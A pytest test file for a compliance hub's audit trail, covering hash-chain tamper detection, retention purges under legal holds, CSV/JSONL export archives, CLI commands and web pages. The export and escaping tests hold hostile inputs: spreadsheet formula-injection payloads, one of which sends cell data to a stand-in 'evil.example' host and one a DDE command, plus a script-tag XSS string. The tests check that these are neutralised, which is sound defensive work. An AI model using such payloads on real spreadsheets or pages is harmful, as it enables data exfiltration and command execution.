"""The audit trail: tamper detection, retention with legal holds, the export archive, the pages."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import re
import zipfile
from datetime import UTC, datetime, timedelta
from itertools import count
from typing import Any

import pytest
from click.testing import CliRunner
from sqlalchemy import create_engine, func, select, text

import hub.audit
from hub.audit import GENESIS, event_digest, history, record_event, verify_chain
from hub.compliance.archive import COLUMNS, export_archive, parse_csv_value
from hub.compliance.retention import NewHold, RetentionError, create_hold, purge, release_hold
from hub.db import job_session
from hub.models import (
    AuditEvent,
    DecisionFinding,
    LegalHold,
    OutboundItem,
    PolicyDecision,
    ReviewAction,
)
from hub.settings import get_setting

NOW = datetime.now(UTC)
OLD = NOW - timedelta(days=365 * 8)  # past the default 7-year retention


@pytest.fixture
def clock(monkeypatch):  # type: ignore[no-untyped-def]
    """Set the time audit events are stamped with: clock.at = datetime (None = real time)."""

    class Clock:
        at: datetime | None = None
        tick = count(1)

        def now(self) -> datetime:
            if self.at is None:
                return datetime.now(UTC)
            return self.at + timedelta(microseconds=next(self.tick))

    c = Clock()
    monkeypatch.setattr(hub.audit, "utcnow", c.now)
    return c


def _events(app, n: int, start: int = 0) -> list[int]:  # type: ignore[no-untyped-def]
    with job_session(app) as s:
        ids = [
            record_event(s, "test.event", "mention", start + i, None, n=start + i, note="héllo").id
            for i in range(n)
        ]
    return ids


def _verify(app, **kw: Any):  # type: ignore[no-untyped-def]
    with job_session(app) as s:
        return verify_chain(s, **kw)


def _sql(app, statement: str, **params: Any) -> None:  # type: ignore[no-untyped-def]
    with app.extensions["hub.engine"].begin() as conn:
        conn.execute(text(statement), params)


# --- verify: tampering is detected and named --------------------------------------------------


def test_intact_chain_verifies(app):
    ids = _events(app, 6)
    result = _verify(app)
    assert result.ok and result.broken_id is None
    assert result.checked == 6 and result.head_id == ids[-1]
    assert verify_chain.__name__ and result[0] == 6 and result[1] is None  # tuple-compatible


def test_digest_is_the_one_record_event_stores(app):
    [ev_id] = _events(app, 1)
    with job_session(app) as s:
        ev = s.get(AuditEvent, ev_id)
        assert ev.prev_hash == GENESIS
        assert ev.hash == event_digest(
            ev.prev_hash, ev.at, ev.actor_id, ev.action, ev.subject_type, ev.subject_id, ev.data
        )


@pytest.mark.parametrize(
    "at",
    [
        datetime(2024, 2, 29, 23, 59, 59, 999999, tzinfo=UTC),
        datetime(2024, 1, 1, 0, 0, 0, 0, tzinfo=UTC),  # isoformat drops zero microseconds
        datetime(1999, 12, 31, 12, 0, 0, 10, tzinfo=UTC),
    ],
)
def test_fast_sqlite_time_text_matches_isoformat(at):
    from hub.audit import _sqlite_at

    stored = at.strftime("%Y-%m-%d %H:%M:%S.%f")  # SQLAlchemy's SQLite storage format
    assert _sqlite_at(stored) == at.isoformat()
    assert _sqlite_at(at.isoformat()) == at.isoformat()  # anything else: the general road


def test_unreadable_row_is_reported_not_crashed(app):
    if app.extensions["hub.engine"].dialect.name == "postgresql":
        pytest.skip("PostgreSQL's json type refuses the malformed text itself")
    ids = _events(app, 3)
    _sql(app, "UPDATE audit_events SET data = :d WHERE id = :id", d='{"n": 1} trailing', id=ids[1])
    result = _verify(app)
    assert result.broken_id == ids[1] and "cannot be read" in result.brk.problem


@pytest.mark.parametrize(
    ("column", "value"),
    [("data", '{"n": 999, "note": "héllo"}'), ("action", "test.innocent"), ("subject_id", 77)],
)
def test_edited_row_is_named(app, column, value):
    ids = _events(app, 6)
    target = ids[3]
    _sql(app, f"UPDATE audit_events SET {column} = :v WHERE id = :id", v=value, id=target)
    result = _verify(app)
    assert not result.ok
    assert result.broken_id == target
    assert result.brk.kind == "edited" and "edited" in result.brk.problem
    assert result.checked == 3


def test_deleted_row_names_the_following_one(app):
    ids = _events(app, 6)
    _sql(app, "DELETE FROM audit_events WHERE id = :id", id=ids[2])
    result = _verify(app)
    assert result.broken_id == ids[3]
    assert result.brk.kind == "relinked" and "deleted or inserted" in result.brk.problem


def test_deleting_the_first_rows_without_an_anchor_is_named(app):
    ids = _events(app, 4)
    _sql(app, "DELETE FROM audit_events WHERE id <= :id", id=ids[1])
    assert _verify(app).broken_id == ids[2]


def test_forged_row_with_a_valid_hash_is_named_as_inserted(app):
    ids = _events(app, 4)
    with job_session(app) as s:
        first = s.get(AuditEvent, ids[0])
        at = first.at - timedelta(seconds=1)
        data = {"approved": True}
        forged = event_digest(GENESIS, at, None, "outbound.approved", "outbound", 1, data)
        s.add(
            AuditEvent(
                id=0,
                at=at,
                actor_id=None,
                action="outbound.approved",
                subject_type="outbound",
                subject_id=1,
                data=data,
                prev_hash=GENESIS,
                hash=forged,
            )
        )
    result = _verify(app)
    assert result.broken_id == 0
    assert "inserted" in result.brk.problem


def test_forged_row_appended_without_the_right_hash_is_named(app):
    ids = _events(app, 3)
    with job_session(app) as s:
        head = s.get(AuditEvent, ids[-1])
        s.add(
            AuditEvent(
                id=ids[-1] + 5,
                at=NOW,
                action="outbound.approved",
                subject_type="outbound",
                subject_id=1,
                data={},
                prev_hash=head.hash,
                hash="f" * 64,
            )
        )
    assert _verify(app).broken_id == ids[-1] + 5


def test_rows_cut_from_the_end_are_caught_against_the_last_verify(app):
    ids = _events(app, 5)
    first = _verify(app)
    _sql(app, "DELETE FROM audit_events WHERE id >= :id", id=ids[3])
    assert _verify(app).ok  # the chain alone cannot tell...
    again = _verify(app, known_head=(first.head_id, first.head_hash))
    assert again.broken_id == ids[-1] and again.brk.kind == "missing"  # ...the last verify can


def test_tail_check_covers_only_the_newest_events(app):
    ids = _events(app, 10)
    _sql(app, "UPDATE audit_events SET action = 'x' WHERE id = :id", id=ids[1])
    tail = _verify(app, last=5)
    assert tail.ok and tail.checked == 5 and tail.partial
    assert _verify(app).broken_id == ids[1]


def test_gaps_in_ids_are_fine(app):
    """Ids are not dense: a rolled-back transaction burns PostgreSQL sequence numbers."""
    ids = _events(app, 2)
    if app.extensions["hub.engine"].dialect.name == "postgresql":
        with app.extensions["hub.sessionmaker"]() as s:
            record_event(s, "test.rolled_back", "mention", 1)
            s.rollback()
    else:  # SQLite hands out max(id) + 1, so make the gap by hand with a well-formed row
        with job_session(app) as s:
            head = s.get(AuditEvent, ids[-1])
            digest = event_digest(head.hash, NOW, None, "test.event", "mention", 1, {})
            s.add(
                AuditEvent(
                    id=ids[-1] + 100,
                    at=NOW,
                    action="test.event",
                    subject_type="mention",
                    subject_id=1,
                    data={},
                    prev_hash=head.hash,
                    hash=digest,
                )
            )
    later = _events(app, 2)
    assert later[0] > ids[-1] + 1
    result = _verify(app)
    assert result.ok and result.head_id == later[-1]


# --- retention --------------------------------------------------------------------------------


def _item(app, clock, author, account, at, *, reviewer=None, state="sent", text="Hello there"):  # type: ignore[no-untyped-def]
    """An outbound item with its decision, finding, review action and events, all at ``at``."""
    clock.at = at
    with job_session(app) as s:
        decision = PolicyDecision(
            author_id=author.id,
            text=text,
            verdict="review",
            pack_version="p" * 64,
            findings=[{"rule_id": "r1", "guideline": "G1", "severity": "review"}],
            platform="sandbox",
            kind="post",
            created_at=at,
        )
        s.add(decision)
        s.flush()
        s.add(
            DecisionFinding(
                decision_id=decision.id,
                rule_id="r1",
                guideline="G1",
                severity="review",
                created_at=at,
            )
        )
        item = OutboundItem(
            kind="post",
            account_id=account.id,
            author_id=author.id,
            text=text,
            state=state,
            idempotency_key=f"k-{at.timestamp()}-{author.id}-{text}"[:64],
            decision_id=decision.id,
            created_at=at,
            updated_at=at,
        )
        s.add(item)
        s.flush()
        decision.outbound_id = item.id
        record_event(s, "decision.recorded", "outbound", item.id, author.id, verdict="review")
        if reviewer is not None:
            s.add(
                ReviewAction(
                    outbound_id=item.id,
                    reviewer_id=reviewer.id,
                    action="approve",
                    reason="fine",
                    at=at,
                )
            )
            record_event(s, "outbound.approved", "outbound", item.id, reviewer.id, reason="ok")
        record_event(s, f"outbound.{state}", "outbound", item.id, None)
        item_id = item.id
    clock.at = None
    return item_id


def _counts(app) -> dict[str, int]:  # type: ignore[no-untyped-def]
    with job_session(app) as s:
        return {
            m.__tablename__: s.scalar(select(func.count()).select_from(m))
            for m in (OutboundItem, PolicyDecision, DecisionFinding, ReviewAction, AuditEvent)
        }


@pytest.fixture
def people(make_staff):  # type: ignore[no-untyped-def]
    return {
        "alice": make_staff("employee", email="alice@example.test"),
        "carol": make_staff("employee", email="carol@example.test"),
        "bob": make_staff("compliance", email="bob@example.test"),
    }


def test_purge_removes_old_records_and_keeps_the_chain_verifiable(
    app, clock, people, sandbox_account
):
    a = _item(app, clock, people["alice"], sandbox_account, OLD, reviewer=people["bob"])
    b = _item(app, clock, people["carol"], sandbox_account, OLD + timedelta(days=1))
    recent = _item(app, clock, people["alice"], sandbox_account, NOW - timedelta(days=3))
    old_events = _counts(app)["audit_events"] - 2  # the recent item has two events

    with job_session(app) as s:
        report = purge(s, NOW)
    assert (report.outbound_items, report.policy_decisions) == (2, 2)
    assert (report.review_actions, report.decision_findings) == (1, 2)
    assert report.audit_events == old_events
    with job_session(app) as s:
        assert s.get(OutboundItem, a) is None and s.get(OutboundItem, b) is None
        assert s.get(OutboundItem, recent) is not None
        assert s.scalar(select(func.count()).select_from(ReviewAction)) == 0
        assert s.scalar(select(func.count()).select_from(DecisionFinding)) == 1
        anchor = get_setting(s, "audit.anchor")
        assert anchor["id"] == report.anchor["id"]
        purged = s.scalars(select(AuditEvent).where(AuditEvent.action == "audit.purged")).one()
        assert purged.data["outbound_items"] == 2 and purged.data["audit_events"] == old_events
        assert s.scalar(select(func.min(AuditEvent.id))) > anchor["id"]
    result = _verify(app)
    assert result.ok and result.anchor_id == report.anchor["id"]
    _events(app, 2)
    assert _verify(app).ok


def test_purge_keeps_what_legal_holds_cover(app, clock, people, sandbox_account):
    a = _item(app, clock, people["alice"], sandbox_account, OLD, reviewer=people["bob"])
    held_author = _item(app, clock, people["carol"], sandbox_account, OLD + timedelta(days=1))
    in_period = _item(app, clock, people["alice"], sandbox_account, OLD + timedelta(days=30))
    reviewed_by_held = _item(
        app, clock, people["alice"], sandbox_account, OLD + timedelta(days=60),
        reviewer=people["bob"], text="reviewed",
    )  # fmt: skip
    released = _item(app, clock, people["alice"], sandbox_account, OLD + timedelta(days=90))
    with job_session(app) as s:
        create_hold(s, NewHold(people["carol"].id, None, None, "Case 1"), None)
        create_hold(
            s,
            NewHold(None, OLD + timedelta(days=29), OLD + timedelta(days=31), "Period"),
            None,
        )
        # both: bob's records, but only in a window containing the fourth item
        create_hold(
            s,
            NewHold(people["bob"].id, OLD + timedelta(days=59), OLD + timedelta(days=61), "Bob Q3"),
            None,
        )
        gone = create_hold(s, NewHold(None, OLD + timedelta(days=89), NOW, "done"), None)
        release_hold(s, gone.id, None)
    with job_session(app) as s:
        report = purge(s, NOW)
    with job_session(app) as s:
        kept = set(s.scalars(select(OutboundItem.id)))
        first_kept = s.scalar(select(func.min(AuditEvent.id)))
        first_kept_event = s.get(AuditEvent, first_kept)
    assert kept == {held_author, in_period, reviewed_by_held}
    assert a not in kept and released not in kept
    assert report.held_items == 3 and report.outbound_items == 2
    # the audit purge is a prefix: it stops at carol's first (held) event
    assert first_kept_event.subject_id == held_author and first_kept_event.actor_id is not None
    assert _verify(app).ok


def test_dry_run_reports_the_same_and_deletes_nothing(app, clock, people, sandbox_account):
    _item(app, clock, people["alice"], sandbox_account, OLD, reviewer=people["bob"])
    _item(app, clock, people["carol"], sandbox_account, NOW)
    before = _counts(app)
    with job_session(app) as s:
        dry = purge(s, NOW, dry_run=True)
    assert _counts(app) == before
    with job_session(app) as s:
        assert get_setting(s, "audit.anchor") is None
        real = purge(s, NOW)
    assert dry.counts() == real.counts() and dry.anchor == real.anchor
    assert dry.outbound_items == 1 and dry.audit_events > 0


def test_live_items_and_young_items_are_never_purged(app, clock, people, sandbox_account):
    live = _item(app, clock, people["alice"], sandbox_account, OLD, state="in_review")
    with job_session(app) as s:
        report = purge(s, NOW)
        assert s.get(OutboundItem, live) is not None
    assert report.outbound_items == 0 and report.audit_events == 0


def test_purge_refuses_to_delete_a_tampered_prefix(app, clock, people, sandbox_account):
    _item(app, clock, people["alice"], sandbox_account, OLD)
    _item(app, clock, people["alice"], sandbox_account, NOW)
    with job_session(app) as s:
        first = s.scalar(select(func.min(AuditEvent.id)))
    _sql(app, "UPDATE audit_events SET action = 'x' WHERE id = :id", id=first)
    before = _counts(app)
    with pytest.raises(RetentionError, match="broken"), job_session(app) as s:
        purge(s, NOW)
    assert _counts(app) == before


def test_purging_all_old_events_keeps_the_newest_and_chains_on(app, clock):
    clock.at = OLD
    _events(app, 3)
    clock.at = None
    with job_session(app) as s:
        report = purge(s, NOW)
    assert report.audit_events == 2  # the newest event always stays
    assert _verify(app).ok
    _events(app, 1)
    assert _verify(app).ok


def test_a_forged_anchor_is_reported(app, clock):
    clock.at = OLD
    _events(app, 3)
    clock.at = None
    with job_session(app) as s:
        purge(s, NOW)
    _events(app, 2)
    with app.extensions["hub.engine"].begin() as conn:
        conn.execute(
            text("UPDATE settings SET value = :v WHERE key = 'audit.anchor'"),
            {"v": json.dumps({"id": 2, "hash": "a" * 64})},
        )
    result = _verify(app)
    assert not result.ok and result.brk.kind in ("relinked", "anchor")


def test_hold_validation(app, people):
    with job_session(app) as s:
        with pytest.raises(RetentionError, match="employee, a period"):
            create_hold(s, NewHold(None, None, None, "why"), None)
        with pytest.raises(RetentionError, match="why"):
            create_hold(s, NewHold(people["alice"].id, None, None, "  "), None)
        with pytest.raises(RetentionError, match="end after"):
            create_hold(s, NewHold(None, NOW, NOW - timedelta(days=1), "x"), None)


# --- export -----------------------------------------------------------------------------------


def _open_archive(path) -> tuple[dict[str, Any], zipfile.ZipFile]:  # type: ignore[no-untyped-def]
    zf = zipfile.ZipFile(path)
    return json.loads(zf.read("manifest.json")), zf


def _jsonl(zf: zipfile.ZipFile, name: str) -> list[dict[str, Any]]:
    return [json.loads(line) for line in zf.read(name).decode().splitlines()]


def test_export_is_self_describing_and_round_trips(app, clock, people, sandbox_account, tmp_path):
    _item(app, clock, people["alice"], sandbox_account, NOW - timedelta(days=10),
          reviewer=people["bob"], text='Tricky, "quoted"\nnew line — ünïcode')  # fmt: skip
    _item(app, clock, people["carol"], sandbox_account, NOW - timedelta(days=5))
    with job_session(app) as s:
        summary = export_archive(s, tmp_path / "all.zip", actor_id=people["bob"].id)
    manifest, zf = _open_archive(tmp_path / "all.zip")
    names = set(zf.namelist())
    assert names == {"manifest.json"} | {f"{t}.{x}" for t in COLUMNS for x in ("jsonl", "csv")}
    assert manifest["format"] == "kestrel-hub-audit-archive" and manifest["hub_version"]
    assert manifest["generated_at"] and manifest["scope"]["employee"] is None
    for f in manifest["files"]:
        assert hashlib.sha256(zf.read(f["name"])).hexdigest() == f["sha256"]
        assert all(c["description"] for c in f["columns"]), f["name"]
        types = {c["name"]: c["type"] for c in f["columns"]}
        if f["format"] != "csv":
            continue
        rows = list(csv.reader(io.StringIO(zf.read(f["name"]).decode(), newline="")))
        assert rows[0] == list(types) and len(rows) - 1 == f["rows"]
        decoded = [
            {k: parse_csv_value(types[k], cell) for k, cell in zip(rows[0], r, strict=True)}
            for r in rows[1:]
        ]
        assert decoded == _jsonl(zf, f["name"].replace(".csv", ".jsonl"))
    assert summary.rows["outbound_items"] == 2 and summary.rows["review_actions"] == 1
    chain = manifest["audit_chain"]
    assert chain["ok"] and chain["events"] == summary.rows["audit_events"]
    assert chain["consecutive_runs"] == 1  # the whole trail: one unbroken run
    # an auditor can re-verify each exported event with the recipe alone
    for ev in _jsonl(zf, "audit_events.jsonl"):
        body = json.dumps(
            [ev["prev_hash"], ev["at"], ev["actor_id"], ev["action"], ev["subject_type"],
             ev["subject_id"], ev["data"]],
            sort_keys=True, separators=(",", ":"), ensure_ascii=False,
        )  # fmt: skip
        assert hashlib.sha256(body.encode()).hexdigest() == ev["hash"]
    with job_session(app) as s:
        exported = s.scalars(select(AuditEvent).where(AuditEvent.action == "audit.exported")).one()
        assert exported.actor_id == people["bob"].id
        assert exported.data["manifest_sha256"] == summary.manifest_sha256


HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "+1 (555) 0100 call now",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1 after a tab",
    "\r=1+1 after a carriage return",
    "'an apostrophe of its own",
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def test_export_csvs_neutralise_formula_cells(app, clock, people, sandbox_account, tmp_path):
    """Employees' texts (and reviewers' reasons) that a spreadsheet would run as formulas are
    written with a leading apostrophe, and still read back exactly."""
    for i, hostile in enumerate(HOSTILE):
        _item(app, clock, people["alice"], sandbox_account, NOW - timedelta(days=3, minutes=i),
              reviewer=people["bob"], text=hostile)  # fmt: skip
    with job_session(app) as s:
        for action in s.scalars(select(ReviewAction)):
            action.reason = "=1+1 looks fine"
    with job_session(app) as s:
        export_archive(s, tmp_path / "hostile.zip", actor_id=people["bob"].id)
    manifest, zf = _open_archive(tmp_path / "hostile.zip")
    assert manifest["format_version"] == 2 and "apostrophe" in manifest["formats"]["csv"]
    cells: dict[str, list[str]] = {}
    for f in manifest["files"]:
        if f["format"] != "csv":
            continue
        rows = list(csv.reader(io.StringIO(zf.read(f["name"]).decode(), newline="")))
        cells[f["table"]] = [c for r in rows[1:] for c in r]
        bad = [c for c in cells[f["table"]] if c.startswith(FORMULA_START)]
        assert bad == [], f"{f['name']}: formula cells {bad}"
        types = {c["name"]: c["type"] for c in f["columns"]}
        decoded = [
            {k: parse_csv_value(types[k], cell) for k, cell in zip(rows[0], r, strict=True)}
            for r in rows[1:]
        ]
        assert decoded == _jsonl(zf, f["name"].replace(".csv", ".jsonl"))
    for hostile in HOSTILE:
        assert "'" + hostile in cells["outbound_items"], hostile
        assert "'" + hostile in cells["policy_decisions"], hostile
    assert "'=1+1 looks fine" in cells["review_actions"]


def test_export_scope_by_employee_and_by_period(app, clock, people, sandbox_account, tmp_path):
    alice, carol, bob = people["alice"], people["carol"], people["bob"]
    early = _item(app, clock, alice, sandbox_account, NOW - timedelta(days=40), reviewer=bob)
    other = _item(app, clock, carol, sandbox_account, NOW - timedelta(days=6), reviewer=bob)
    late = _item(app, clock, alice, sandbox_account, NOW - timedelta(days=5))
    with job_session(app) as s:
        export_archive(s, tmp_path / "alice.zip", alice.id)
        export_archive(s, tmp_path / "bob.zip", bob.id)
        export_archive(
            s, tmp_path / "recent.zip", None, NOW - timedelta(days=10), NOW + timedelta(days=1)
        )
        export_archive(
            s, tmp_path / "alice-early.zip", alice.id, NOW - timedelta(days=50),
            NOW - timedelta(days=30),
        )  # fmt: skip

    def ids(name: str, table: str, key: str = "id") -> set[int]:
        _, zf = _open_archive(tmp_path / name)
        return {r[key] for r in _jsonl(zf, f"{table}.jsonl")}

    assert ids("alice.zip", "outbound_items") == {early, late}
    assert ids("alice.zip", "policy_decisions", "outbound_id") == {early, late}
    assert ids("alice.zip", "review_actions", "outbound_id") == {early}  # on her items
    assert ids("alice.zip", "audit_events", "subject_id") == {early, late}
    assert ids("bob.zip", "outbound_items") == set()
    assert ids("bob.zip", "review_actions", "outbound_id") == {early, other}  # as reviewer
    assert ids("recent.zip", "outbound_items") == {late, other}
    assert ids("alice-early.zip", "outbound_items") == {early}
    manifest, _ = _open_archive(tmp_path / "alice-early.zip")
    assert manifest["scope"]["employee"]["email"] == "alice@example.test"
    assert manifest["audit_chain"]["ok"]
    manifest, _ = _open_archive(tmp_path / "alice.zip")
    assert manifest["audit_chain"]["consecutive_runs"] >= 2  # carol's events lie between


# --- CLI --------------------------------------------------------------------------------------


@pytest.fixture
def cli(app, monkeypatch):  # type: ignore[no-untyped-def]
    """Run `hub ...` against the test app (what `_app()` builds from HUB_* variables)."""
    import hub.cli

    monkeypatch.setattr(hub.cli, "_app", lambda: app)

    def run(*args: str):  # type: ignore[no-untyped-def]
        return CliRunner().invoke(hub.cli.main, list(args))

    return run


def test_cli_verify_exit_codes_and_message(app, cli):
    ids = _events(app, 5)
    ok = cli("audit", "verify")
    assert ok.exit_code == 0, ok.output
    assert "checked 5 events" in ok.output and "chain intact" in ok.output
    _sql(app, "UPDATE audit_events SET data = :d WHERE id = :id", d='{"n": 1}', id=ids[2])
    bad = cli("audit", "verify")
    assert bad.exit_code == 1
    assert f"event #{ids[2]}" in bad.output and "test.event" in bad.output
    assert "edited" in bad.output


def test_verify_does_not_lock_out_writers(app, monkeypatch):
    """On SQLite the hub's sessions BEGIN IMMEDIATE; a long verify must not hold that lock."""
    if app.extensions["hub.engine"].dialect.name != "sqlite":
        pytest.skip("PostgreSQL readers never block writers")
    _events(app, 3)
    real = hub.audit.verify_chain
    writer = create_engine(app.config["DATABASE_URL"], connect_args={"timeout": 0.5})

    def verify_while_writing(session, **kw):  # type: ignore[no-untyped-def]
        session.execute(select(AuditEvent.id)).all()  # the verify is reading...
        with writer.connect() as conn:  # ...and a writer still gets the lock at once
            conn.exec_driver_sql("BEGIN IMMEDIATE")
            conn.exec_driver_sql("ROLLBACK")
        return real(session, **kw)

    monkeypatch.setattr(hub.audit, "verify_chain", verify_while_writing)
    try:
        assert hub.audit.verify_app_chain(app).ok
    finally:
        writer.dispose()


def test_cli_verify_remembers_the_head(app, cli):
    ids = _events(app, 4)
    assert cli("audit", "verify").exit_code == 0
    assert hub.audit.load_last_verify(app.instance_path)["head_id"] == ids[-1]
    _sql(app, "DELETE FROM audit_events WHERE id = :id", id=ids[-1])
    cut = cli("audit", "verify")
    assert cut.exit_code == 1 and "deleted from the end" in cut.output


def test_cli_purge_and_export(app, cli, clock, people, sandbox_account, tmp_path):
    _item(app, clock, people["alice"], sandbox_account, OLD)
    _item(app, clock, people["alice"], sandbox_account, NOW - timedelta(days=1))
    before = _counts(app)
    dry = cli("audit", "purge", "--dry-run")
    assert dry.exit_code == 0, dry.output
    assert re.search(r"would delete +1 outbound_items", dry.output)
    assert _counts(app) == before
    real = cli("audit", "purge")
    assert real.exit_code == 0 and re.search(r"deleted +1 outbound_items", real.output)
    assert cli("audit", "verify").exit_code == 0
    day = (NOW - timedelta(days=1)).strftime("%Y-%m-%d")
    out = tmp_path / "alice.zip"
    exp = cli(
        "audit", "export", "--employee", "ALICE@example.test", "--from", day, "--to", day,
        "-o", str(out),
    )  # fmt: skip
    assert exp.exit_code == 0, exp.output
    manifest, zf = _open_archive(out)
    assert manifest["scope"]["employee"]["email"] == "alice@example.test"
    assert len(_jsonl(zf, "outbound_items.jsonl")) == 1
    unknown = cli("audit", "export", "--employee", "nobody@example.test", "-o", str(out))
    assert unknown.exit_code != 0 and "no staff member" in unknown.output


# --- pages ------------------------------------------------------------------------------------


@pytest.fixture
def officer(client, login, make_staff):  # type: ignore[no-untyped-def]
    staff = make_staff("compliance")
    login(client, staff)
    return staff


def test_index_shows_chain_status_retention_and_forms(app, client, officer):
    ids = _events(app, 3)
    page = client.get("/audit/")
    assert page.status_code == 200
    html = page.text
    assert "every hash and link is intact" in html and "7 years" in html
    assert 'name="retention_years"' in html and 'name="export_employee"' in html
    _sql(app, "UPDATE audit_events SET action = 'x' WHERE id = :id", id=ids[1])
    assert f"broken at event #{ids[1]}" in client.get("/audit/").text


@pytest.mark.parametrize(
    ("value", "ok"), [("10", True), ("0", False), ("101", False), ("x", False), ("", False)]
)
def test_retention_setting_is_validated(app, client, officer, value, ok):
    resp = client.post("/audit/retention", data={"retention_years": value})
    with job_session(app) as s:
        stored = get_setting(s, "retention.years")
        changed = s.scalars(select(AuditEvent).where(AuditEvent.action == "settings.changed")).all()
    if ok:
        assert resp.status_code == 302 and stored == 10 and len(changed) == 1
    else:
        assert resp.status_code == 422 and stored == 7 and not changed
        assert "years" in resp.text


def test_verify_button_runs_the_full_check(app, client, officer):
    _events(app, 3)
    resp = client.post("/audit/verify", follow_redirects=True)
    assert "checked 3 events: chain intact" in resp.text
    assert hub.audit.load_last_verify(app.instance_path)["ok"] is True


def test_holds_page_places_and_releases(app, client, officer, people):
    resp = client.post(
        "/audit/holds",
        data={"hold_employee": str(people["carol"].id), "hold_reason": "SEC inquiry 42",
              "hold_from": "", "hold_to": ""},
    )  # fmt: skip
    assert resp.status_code == 302
    with job_session(app) as s:
        hold = s.scalars(select(LegalHold)).one()
        hold_id = hold.id
    page = client.get("/audit/holds").text
    assert "SEC inquiry 42" in page and "active" in page
    assert client.post(f"/audit/holds/{hold_id}/release").status_code == 302
    again = client.post(f"/audit/holds/{hold_id}/release", follow_redirects=True)
    assert "already released" in again.text
    assert client.post("/audit/holds/999999/release").status_code == 404
    with job_session(app) as s:
        actions = [e.action for e in history(s, "legal_hold", hold_id)]
        assert actions == ["legal_hold.placed", "legal_hold.released"]
    bad = client.post(
        "/audit/holds", data={"hold_employee": "", "hold_reason": "x", "hold_from": "2024-13-01"}
    )
    assert bad.status_code == 422 and "2024-01-31" in bad.text
    none = client.post("/audit/holds", data={"hold_reason": "x"})
    assert none.status_code == 422 and "employee, a period" in none.text


def test_export_download(app, client, officer, clock, people, sandbox_account, tmp_path):
    _item(app, clock, people["alice"], sandbox_account, NOW - timedelta(days=2))
    resp = client.post(
        "/audit/export",
        data={"export_employee": str(people["alice"].id), "export_from": "", "export_to": ""},
    )
    assert resp.status_code == 200 and resp.mimetype == "application/zip"
    assert "attachment" in resp.headers["Content-Disposition"]
    zf = zipfile.ZipFile(io.BytesIO(resp.data))
    assert not list((tmp_path / "exports").iterdir())  # the temporary file is gone once sent
    assert len(_jsonl(zf, "outbound_items.jsonl")) == 1
    with job_session(app) as s:
        assert s.scalars(select(AuditEvent).where(AuditEvent.action == "audit.exported")).one()
    bad = client.post(
        "/audit/export", data={"export_from": "2024-02-01", "export_to": "2024-01-01"}
    )
    assert bad.status_code == 422 and "end after it starts" in bad.text


def test_item_history_page_is_escaped(app, client, officer, clock, people, sandbox_account):
    item_id = _item(
        app, clock, people["alice"], sandbox_account, NOW - timedelta(days=1),
        reviewer=people["bob"], text="<script>alert(1)</script>",
    )  # fmt: skip
    with job_session(app) as s:
        record_event(s, "outbound.rejected", "outbound", item_id, None, reason="<b>nope</b>")
    resp = client.get(f"/audit/lookup?kind=outbound&id={item_id}")
    assert resp.status_code == 302
    page = client.get(resp.headers["Location"])
    assert page.status_code == 200
    html = page.text
    assert "<script>alert(1)</script>" not in html and "&lt;script&gt;alert(1)" in html
    assert "<b>nope</b>" not in html and "&lt;b&gt;nope&lt;/b&gt;" in html
    assert "decision.recorded" in html and "outbound.approved" in html and "approve" in html
    assert client.get("/audit/items/outbound/999999").status_code == 404
    assert client.get("/audit/lookup?kind=outbound&id=abc").status_code == 302


def test_mention_history_page(app, client, officer, make_mention):
    mention = make_mention("@KestrelFootwear <i>hi</i>")
    page = client.get(f"/audit/items/mention/{mention.id}")
    assert page.status_code == 200
    assert "&lt;i&gt;hi&lt;/i&gt;" in page.text and "mention.received" in page.text
